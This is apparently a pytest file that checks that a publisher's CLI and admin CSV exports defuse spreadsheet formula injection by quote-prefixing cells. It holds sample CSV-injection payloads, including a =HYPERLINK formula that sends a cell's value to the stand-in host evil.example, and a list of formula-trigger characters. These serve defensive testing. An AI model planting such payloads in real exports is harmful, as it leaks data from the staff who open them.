"""Exports open in spreadsheets: a cell that starts like a formula is shown as text.

Anyone can type a name on the subscribe form, and ``=HYPERLINK("http://evil…")`` in an
exported cell would run in the spreadsheet of the staff member who opens it (OWASP: CSV
injection). The CLI and the admin's download share the one CSV writer; both are tried.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from publisher.cli import app
from publisher.db import session_scope
from publisher.subscribers.models import Source
from publisher.subscribers.subscriptions import subscribe
from tests.delivery.sending_support import LIST, stock
from tests.web import admin_support
from tests.web.admin_support import AdminSite, logged_in

admin_site = admin_support.admin_site
runner = CliRunner()

FORMULAS = {
    "eq@example.org": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "plus@example.org": "+1+1",
    "minus@example.org": "-2+3",
    "at@example.org": "@SUM(1,2)",
    "tab@example.org": "\t=1+1",
}
"""Names as typed (a CR cannot be part of a stored name: the register refuses line breaks)."""


def formula_cells(rows: list[dict[str, str]]) -> list[str]:
    return [
        value
        for row in rows
        for value in row.values()
        if value.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]


def names_by_email(rows: list[dict[str, str]]) -> dict[str, str]:
    return {row["email"]: row["name"] for row in rows}


def test_the_cli_export_prefixes_formula_cells_with_a_quote_and_imports_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, database_url: str
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PUBLISHER_DATABASE_URL", database_url)
    assert runner.invoke(app, ["init"]).exit_code == 0
    assert runner.invoke(app, ["lists", "create", "novice", "--name", "Novice"]).exit_code == 0
    for email, name in FORMULAS.items():
        added = runner.invoke(app, ["subscribers", "add", email, "-l", "novice", "--name", name])
        assert added.exit_code == 0, added.output
    result = runner.invoke(app, ["subscribers", "export", "-l", "novice", "--out", "izvoz.csv"])
    assert result.exit_code == 0, result.output
    text = (tmp_path / "izvoz.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert formula_cells(rows) == []
    names = names_by_email(rows)
    assert set(names) == set(FORMULAS) and all(name.startswith("'") for name in names.values())
    assert names["eq@example.org"] == "'" + FORMULAS["eq@example.org"]
    assert names["minus@example.org"] == "'-2+3" and names["at@example.org"] == "'@SUM(1,2)"
    # An export imports back unchanged: the importer takes the quote off again.
    assert runner.invoke(app, ["lists", "create", "kopija", "--name", "Kopija"]).exit_code == 0
    back = runner.invoke(app, ["subscribers", "import", "izvoz.csv", "-l", "kopija"])
    assert back.exit_code == 0, back.output
    again = runner.invoke(app, ["subscribers", "export", "-l", "kopija", "--format", "json"])
    assert again.exit_code == 0
    assert '"=HYPERLINK(' in again.stdout  # JSON is not for spreadsheets: the name as stored


def test_the_admin_export_prefixes_formula_cells_with_a_quote(admin_site: AdminSite) -> None:
    stock(admin_site.engine, 1)
    with session_scope(admin_site.engine) as session:
        for email, name in FORMULAS.items():
            subscribe(session, email, LIST, source=Source.staff, name=name, confirmed=True)
    client = logged_in(admin_site)
    response = client.get(f"/admin/lists/{LIST}/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert formula_cells(rows) == []
    names = names_by_email(rows)
    assert names["eq@example.org"] == "'" + FORMULAS["eq@example.org"]
    assert names["at@example.org"] == "'@SUM(1,2)" and names["minus@example.org"] == "'-2+3"
    assert names["obcan0000@example.org"] == "Občan Številka 0"
